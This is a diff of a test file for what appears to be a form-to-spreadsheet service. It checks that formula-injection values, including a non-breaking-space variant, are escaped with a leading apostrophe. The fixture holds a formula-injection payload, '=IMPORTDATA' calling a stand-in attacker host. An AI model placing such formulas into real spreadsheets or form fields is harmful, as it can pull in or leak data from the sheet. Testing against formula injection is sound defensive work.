@@ -70,7 +70,7 @@ test.each([200, 302])(
   async (status) => {
     const { rows, doPost, events, store, clock } = await startSheet(status);
     const submitted = await store.submit(
-      said({ name: '=IMPORTDATA("https://evil.example")', message: 'வணக்கம்', receivedAt: clock.now() }),
+      said({ name: '=IMPORTDATA("https://evil.example")', message: '\u00a0=வணக்கம்', receivedAt: clock.now() }),
     );
     const receipt = submitted.result === 'key-reused' ? null : submitted.receipt;
     await eventually(() => expect(rows).toHaveLength(2));
@@ -81,7 +81,7 @@ test.each([200, 302])(
       '\'=IMPORTDATA("https://evil.example")',
       "'+91 98765 43210",
       'meena@example.org',
-      'வணக்கம்',
+      "'\u00a0=வணக்கம்",
       '',
     ]);
     const [event] = events;
